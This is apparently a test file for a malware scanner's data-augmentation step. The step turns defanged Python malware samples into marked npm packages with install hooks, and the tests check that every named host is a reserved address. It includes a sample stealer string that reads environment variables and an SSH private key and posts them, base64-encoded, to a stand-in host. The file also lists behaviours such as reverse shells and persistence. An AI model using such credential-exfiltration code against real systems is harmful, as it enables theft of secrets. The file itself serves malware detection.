"""JavaScript rewrites of the Python samples (`malwi_research.augment`): the behaviours read
from a sample's text, npm packages that carry them where npm malware does, defanged and
marked, reproducible, and parsed by malwi's own compiler.

The Python "samples" here are short defanged texts written for the test; nothing is run.
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from malwi.engine.inputs import Workspace
from malwi.engine.pipeline import Scanner, ScanOptions
from malwi_research.augment import BEHAVIOURS, MARKER, behaviours_of, materialise, rewrite, write_rewrites

from .tiny_model import build_tiny_bundle

REPOSITORY = Path(__file__).resolve().parent.parent
COMMITTED = REPOSITORY / "data" / "training" / "synthetic-javascript" / "rewrites.jsonl"
LIFECYCLE = ("preinstall", "install", "postinstall")
# Every host a rewrite may name: reserved names (RFC 2606) and documentation addresses (RFC 5737).
URL = re.compile(r"\b(?:https?|wss?)://([^/\s'\"`:]+)")
DEFANGED_HOST = re.compile(r"(?:.+\.invalid|192\.0\.2\.\d+|198\.51\.100\.\d+|203\.0\.113\.\d+)")


def unbase64(value: str, encoding: str = "latin-1") -> str | None:
    try:
        decoded = base64.b64decode(value, validate=True).decode(encoding)
    except ValueError:
        return None
    return decoded if decoded.isprintable() else None  # a path or word that happens to be base64


def revealed(text: str) -> str:
    """The text with the rewrites' string disguises undone (base64, hex escapes, char codes,
    reversed and split strings), so that every host they hide can be checked."""
    text = text.replace('" + "', "")
    text = re.sub(
        r"Buffer\.from\(\"([A-Za-z0-9+/=]*)\", 'base64'\)",
        lambda m: base64.b64decode(m[1]).decode("latin-1"),
        text,
    )
    text = re.sub(r"\"([A-Za-z0-9+/]{16,}={0,2})\"", lambda m: unbase64(m[1]) or m[0], text)
    text = re.sub(
        r"(?:\\x[0-9a-f]{2})+", lambda m: bytes.fromhex(m[0].replace("\\x", "")).decode("latin-1"), text
    )
    text = re.sub(
        r"String\.fromCharCode\(([\d, ]+)\)", lambda m: "".join(chr(int(c)) for c in m[1].split(",")), text
    )
    text = re.sub(r"\"((?:[^\"\\]|\\.)*)\"\.split\(''\)\.reverse\(\)\.join\(''\)", lambda m: m[1][::-1], text)
    # PowerShell's -enc: base64 of UTF-16LE.
    return re.sub(r"-enc ([A-Za-z0-9+/=]+)", lambda m: unbase64(m[1], "utf-16-le") or m[0], text)


def texts(files: dict[str, str]) -> list[str]:
    """Each file's text, and each npm script as the shell sees it (inline `node -e` code unquoted)."""
    found = [text for name, text in files.items() if name != "package.json"]
    for command in json.loads(files["package.json"]).get("scripts", {}).values():
        found.append(json.loads(command[8:]) if command.startswith('node -e "') else command)
    return found


def hosts(files: dict[str, str]) -> set[str]:
    return {host for text in texts(files) for host in URL.findall(revealed(text))}


def test_behaviours_are_read_from_the_samples_text() -> None:
    stealer = (
        "import os, socket, base64, urllib.request\n"
        "data = dict(os.environ)\n"
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "urllib.request.urlopen('http://example.invalid', base64.b64encode(key.encode()))\n"
        "socket.gethostbyname('x.example.invalid')\n"
    )
    assert behaviours_of([stealer]) == ["download", "environment", "credentials", "encoded", "dns"]
    assert behaviours_of(["import subprocess\nsubprocess.call(['powershell', '-c', 'x'])\n"]) == [
        "process",
        "windows",
    ]
    # Nothing recognised: what such samples mostly are, an obfuscated loader.
    assert behaviours_of(["x = 1\n"]) == ["encoded", "dynamic"]


def test_install_time_behaviour_becomes_an_npm_lifecycle_script_and_import_time_the_main() -> None:
    for seed in range(12):
        installed = rewrite("evilpkg_1.0", ["download", "process"], install=True, seed=seed)
        manifest = json.loads(installed["package.json"])
        hooks = {k: v for k, v in manifest["scripts"].items() if k in LIFECYCLE}
        assert len(hooks) == 1
        (command,) = hooks.values()
        if command.startswith("node ") and not command.startswith("node -e"):
            script = command.split()[1].removeprefix("./")
            assert "https" in installed[script] or "child_process" in installed[script]
        assert manifest["_malwi"] == MARKER
        imported = rewrite("evilpkg_1.0", ["environment", "webhook"], install=False, seed=seed)
        manifest = json.loads(imported["package.json"])
        assert not set(manifest.get("scripts", {})) & set(LIFECYCLE)
        assert "process.env" in imported[manifest["main"]]


def test_a_rewrite_is_reproducible_and_seeds_vary_it() -> None:
    kinds = ["host_info", "credentials", "download"]
    assert rewrite("a_1", kinds, True, 7) == rewrite("a_1", kinds, True, 7)
    assert len({json.dumps(rewrite("a_1", kinds, True, seed), sort_keys=True) for seed in range(10)}) == 10


@settings(max_examples=40, deadline=None)
@given(
    kinds=st.lists(st.sampled_from(sorted(BEHAVIOURS)), min_size=1, max_size=5, unique=True),
    install=st.booleans(),
    seed=st.integers(0, 10_000),
)
def test_every_rewrite_is_defanged_and_marked(kinds: list[str], install: bool, seed: int) -> None:
    files = rewrite("sample_0.1", kinds, install, seed)
    for host in hosts(files):
        assert DEFANGED_HOST.fullmatch(host), host
    for name, text in files.items():
        if name.endswith(".js") and "require(" in text:
            assert text.startswith(f"// {MARKER}\n")
    assert json.loads(files["package.json"])["_malwi"] == MARKER


def test_rewrites_are_written_for_a_seeded_share_and_materialised_under_their_source_name(
    tmp_path: Path,
) -> None:
    samples = [
        (f"pkg{i}_1.{i}", [(f"pkg{i}_1.{i}/setup.py", b"import os\nos.system('x')\n")]) for i in range(200)
    ]
    samples.append(("nopython_1.0", [("nopython_1.0/data.txt", b"x")]))
    out = tmp_path / "rewrites.jsonl"
    counts = write_rewrites(iter(samples), out, share=0.3, seed=5)
    records = [json.loads(line) for line in out.read_text().splitlines()]
    assert 35 <= counts["packages"] == len(records) <= 85
    assert counts["process"] == len(records)
    assert all(r["install"] and r["behaviours"] == ["process"] for r in records)
    again = tmp_path / "again.jsonl"
    write_rewrites(iter(samples), again, share=0.3, seed=5)
    assert again.read_bytes() == out.read_bytes()
    found = materialise(out, tmp_path / "packages")
    assert [source for source, _, _ in found] == [r["source"].rsplit("_", 1)[0] for r in records]
    for _, name, folder in found:
        assert json.loads((folder / "package.json").read_text())["name"] == name


def test_materialise_refuses_a_file_outside_its_package(tmp_path: Path) -> None:
    bad = tmp_path / "bad.jsonl"
    bad.write_text(json.dumps({"source": "x_1", "files": {"../escape.js": "", "package.json": "{}"}}) + "\n")
    with pytest.raises(ValueError, match="outside its package"):
        materialise(bad, tmp_path / "out")
    assert not (tmp_path / "escape.js").exists()


def test_rewrites_parse_and_their_install_scripts_are_found(tmp_path: Path) -> None:
    # malwi's own compiler reads every file; a lifecycle script is an install hook of the unit.
    bundle = build_tiny_bundle(tmp_path / "tiny")
    out = tmp_path / "r.jsonl"
    kinds = ["host_info", "environment", "credentials", "download", "process", "reverse_shell", "persistence"]
    samples = [(f"s{i}_1", [(f"s{i}_1/setup.py", ("import os\n" * (i + 1)).encode())]) for i in range(6)]
    write_rewrites(iter(samples), out, share=1.0, seed=3)
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    for index, record in enumerate(lines):
        record["files"] = rewrite(record["source"], kinds[: index + 2], True, index)
    out.write_text("".join(json.dumps(r) + "\n" for r in lines))
    for _, _, folder in materialise(out, tmp_path / "pk"):
        with Workspace() as workspace, Scanner(ScanOptions(model=bundle, cache=False)) as scanner:
            report = scanner.judge(workspace.local([str(folder)]))
        (unit,) = report.units
        assert unit.kind == "npm"
        assert unit.verdict != "incomplete", unit.unscanned
        assert unit.hooks, folder


def test_the_committed_rewrites_are_defanged_marked_and_varied() -> None:
    records = [json.loads(line) for line in COMMITTED.read_text(encoding="utf-8").splitlines()]
    assert len(records) > 2000
    seen = 0
    for record in records:
        named = hosts(record["files"])
        seen += bool(named)
        for host in named:
            assert DEFANGED_HOST.fullmatch(host), (record["source"], host)
        assert json.loads(record["files"]["package.json"])["_malwi"] == MARKER
    # Nearly every rewrite sends or fetches (a few only run local commands): the disguises
    # were undone, so their hosts were all checked.
    assert seen >= 0.9 * len(records)
    behaviours = {kind for record in records for kind in record["behaviours"]}
    assert behaviours == set(BEHAVIOURS)
    assert sum(record["install"] for record in records) not in (0, len(records))


def test_the_research_step_writes_the_configured_share_from_the_sample_archive(tmp_path: Path) -> None:
    import io
    import lzma
    import tarfile

    from .conftest import run_malwi

    archive = tmp_path / "samples.tar.xz"
    with lzma.open(archive, "wb") as packed, tarfile.open(fileobj=packed, mode="w") as tar:
        for i in range(40):
            data = b"import os\nos.environ.get('TOKEN')\n"
            member = tarfile.TarInfo(f"python/malicious/p{i}_1.0/__init__.py")
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
    config = json.loads((REPOSITORY / "data" / "training" / "training_config.json").read_text())
    config["data"]["malicious_archive"] = str(archive)
    config["data_augmentation"]["javascript_rewrites"].update(folder=str(tmp_path / "out"), share=0.5)
    (tmp_path / "config.json").write_text(json.dumps(config))
    result = run_malwi(
        "research", "--config", str(tmp_path / "config.json"), "--work", str(tmp_path / "w"), "augment"
    )
    assert result.returncode == 0, result.stderr
    records = [json.loads(line) for line in (tmp_path / "out" / "rewrites.jsonl").read_text().splitlines()]
    assert 8 <= len(records) <= 32
    assert {r["behaviours"][0] for r in records} == {"environment"}
    assert not any(r["install"] for r in records)  # an __init__.py runs on import: the package's main
    assert f"{len(records)} JavaScript rewrites" in result.stderr.decode()
